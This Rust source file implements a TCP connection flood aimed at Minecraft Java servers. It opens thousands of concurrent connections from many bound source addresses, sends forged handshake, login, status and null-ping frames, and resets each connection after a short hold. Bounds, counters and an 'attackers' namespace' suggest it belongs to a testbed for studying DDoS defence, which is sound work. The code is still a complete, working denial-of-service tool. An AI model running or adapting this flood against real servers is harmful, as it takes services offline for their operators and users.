//! Floods of real connections: each from a real address of the attackers, opened by the kernel's own TCP, with a few
//! bytes said and then left lying for a while.

use std::io::Write;
use std::net::SocketAddr;
use std::net::TcpStream;
use std::os::fd::AsFd;
use std::os::fd::AsRawFd;
use std::os::fd::OwnedFd;
use std::sync::atomic::Ordering;
use std::time::Duration;
use std::time::Instant;

use anyhow::Context;
use nix::errno::Errno;
use nix::poll::PollFd;
use nix::poll::PollFlags;
use nix::poll::PollTimeout;
use nix::poll::poll;
use nix::sys::resource::Resource;
use nix::sys::resource::getrlimit;
use nix::sys::resource::setrlimit;
use nix::sys::socket::AddressFamily;
use nix::sys::socket::SockFlag;
use nix::sys::socket::SockType;
use nix::sys::socket::SockaddrStorage;
use nix::sys::socket::bind;
use nix::sys::socket::connect;
use nix::sys::socket::getsockopt;
use nix::sys::socket::setsockopt;
use nix::sys::socket::socket;
use nix::sys::socket::sockopt;

use super::Attack;
use super::Progress;
use super::Sent;
use super::Vector;
use super::random::Random;
use crate::clock;

/// Connections that lie open or are being opened at the same time.
const OPEN_MAX: usize = 3_000;
/// How long a connection may take to open: as a bot, one retransmission.
const OPENING_MAX: Duration = Duration::from_millis(1_500);
/// How long it lies open after its bytes were said.
const LYING: Duration = Duration::from_millis(500);

/// One connection; dropped, it is closed.
struct Connection {
    socket: OwnedFd,
    since: Instant,
    opened: bool,
}

/// Connects until a bound is reached or somebody says stop.
pub(crate) fn run(attack: &Attack, progress: &Progress) -> anyhow::Result<Sent> {
    allow_many_files();
    let mut random = Random::new(7);
    let mut sent = Sent::default();
    let mut open: Vec<Connection> = Vec::new();
    let (begun, mut begun_count) = (Instant::now(), 0);
    loop {
        let elapsed = begun.elapsed();
        let over = begun_count >= attack.bounds.packets || elapsed >= attack.bounds.lasting;
        let over = over || progress.stop.load(Ordering::Relaxed);
        let due = 1 + elapsed.as_micros() as u64 * attack.bounds.packets_per_second / 1_000_000;
        while !over && begun_count < due.min(attack.bounds.packets) && open.len() < OPEN_MAX {
            begun_count += 1;
            match begin(attack, &mut random)? {
                Some(socket) => open.push(Connection { socket, since: Instant::now(), opened: false }),
                None => sent.failed += 1,
            }
        }
        speak(attack.vector, &mut open, &mut random, &mut sent)?;
        open.retain(|connection| {
            let late = connection.since.elapsed() > if connection.opened { LYING } else { OPENING_MAX };
            sent.failed += u64::from(late && !connection.opened);
            !late
        });
        progress.packets.store(sent.packets, Ordering::Relaxed);
        // Whoever is still trying to connect when time is over has failed.
        if over && (open.iter().all(|connection| connection.opened) || progress.stop.load(Ordering::Relaxed))
        {
            sent.failed += open.iter().filter(|connection| !connection.opened).count() as u64;
            return Ok(sent);
        }
        std::thread::sleep(Duration::from_millis(1));
    }
}

/// Begins to connect from the next source.
fn begin(attack: &Attack, random: &mut Random) -> anyhow::Result<Option<OwnedFd>> {
    let family = if attack.target.is_ipv4() { AddressFamily::Inet } else { AddressFamily::Inet6 };
    let flags = SockFlag::SOCK_CLOEXEC | SockFlag::SOCK_NONBLOCK;
    let socket = socket(family, SockType::Stream, flags, None).context("cannot open a socket")?;
    leave_at_once(&socket)?;
    // Beside players the port tells who it is; one that is in use is no connection.
    let port = if attack.beside_players { random.misused_port() } else { 0 };
    let source = SocketAddr::new(random.source(attack.sources, &attack.target), port);
    match bind(socket.as_raw_fd(), &SockaddrStorage::from(source)) {
        Err(Errno::EADDRINUSE) if port > 0 => return Ok(None),
        bound => bound.with_context(|| format!("cannot bind {source} in the attackers' namespace"))?,
    }
    match connect(socket.as_raw_fd(), &SockaddrStorage::from(attack.target)) {
        Ok(()) | Err(Errno::EINPROGRESS) => Ok(Some(socket)),
        Err(_) => Ok(None),
    }
}

/// Closed, it resets its connection, as flooding tools do. Else the kernel would repeat for minutes what nobody answers, and
/// the attack would not be over when it is.
pub(super) fn leave_at_once(socket: &impl AsFd) -> anyhow::Result<()> {
    let reset = nix::libc::linger { l_onoff: 1, l_linger: 0 };
    setsockopt(socket, sockopt::Linger, &reset).context("cannot set SO_LINGER")
}

/// Says what there is to say on every connection that has opened since.
fn speak(
    vector: Vector,
    open: &mut Vec<Connection>,
    random: &mut Random,
    sent: &mut Sent,
) -> anyhow::Result<()> {
    let mut ready = Vec::new();
    {
        let opening = open.iter().enumerate().filter(|(_, connection)| !connection.opened);
        let (places, mut waiting): (Vec<usize>, Vec<PollFd<'_>>) = opening
            .map(|(at, connection)| (at, PollFd::new(connection.socket.as_fd(), PollFlags::POLLOUT)))
            .unzip();
        poll(&mut waiting, PollTimeout::ZERO).context("cannot poll")?;
        let asked = places.into_iter().zip(&waiting);
        ready.extend(asked.filter(|(_, poll)| poll.any().unwrap_or(false)).map(|(at, _)| at));
    }
    for at in ready.into_iter().rev() {
        if getsockopt(&open[at].socket, sockopt::SocketError).is_ok_and(|error| error == 0) {
            let bytes = words(vector, random);
            let mut stream = TcpStream::from(open[at].socket.try_clone().context("cannot copy a socket")?);
            let said = stream.write(&bytes).unwrap_or(0);
            open[at].opened = true;
            open[at].since = Instant::now();
            sent.packets += 1;
            sent.bytes += said as u64;
            sent.last_ms = clock::now_ms();
            if sent.first_ms == 0 {
                sent.first_ms = sent.last_ms;
            }
        } else {
            sent.failed += 1;
            open.swap_remove(at);
        }
    }
    Ok(())
}

/// What a connection says. Minecraft Java frames: length, id, body.
pub(crate) fn words(vector: Vector, random: &mut Random) -> Vec<u8> {
    let handshake = |next: u8| {
        let mut body = vec![0x00, 0xfd, 0x05, 16];
        body.extend(b"play.example.org");
        body.extend([0x63, 0xdd, next]);
        frame(&body)
    };
    match vector {
        Vector::JoinFlood => {
            let name = format!("Bot{:08x}", random.next() as u32);
            let mut login = vec![0x00, name.len() as u8];
            login.extend(name.as_bytes());
            login.extend(random.next().to_be_bytes());
            login.extend(random.next().to_be_bytes());
            [handshake(2), frame(&login)].concat()
        }
        Vector::StatusFlood => [handshake(1), frame(&[0x00])].concat(),
        Vector::BadHandshake => frame(&[0x00]),
        Vector::NullPing => vec![0; 32],
        _ => Vec::new(),
    }
}

/// A frame shorter than 128 bytes.
fn frame(body: &[u8]) -> Vec<u8> {
    let mut frame = vec![body.len() as u8];
    frame.extend(body);
    frame
}

/// As many open files as the machine allows this process; where it allows few, fewer connections lie open.
fn allow_many_files() {
    if let Ok((_, most)) = getrlimit(Resource::RLIMIT_NOFILE) {
        let _ = setrlimit(Resource::RLIMIT_NOFILE, most, most);
    }
}
